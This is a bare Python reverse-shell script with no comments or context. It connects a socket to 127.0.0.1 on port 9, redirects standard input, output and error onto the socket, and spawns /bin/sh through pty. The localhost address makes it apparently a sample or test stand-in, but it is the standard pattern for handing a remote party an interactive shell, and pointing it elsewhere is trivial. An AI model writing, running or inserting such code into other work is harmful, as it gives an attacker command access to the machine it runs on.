import os
import pty
import socket

s = socket.create_connection(("127.0.0.1", 9))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
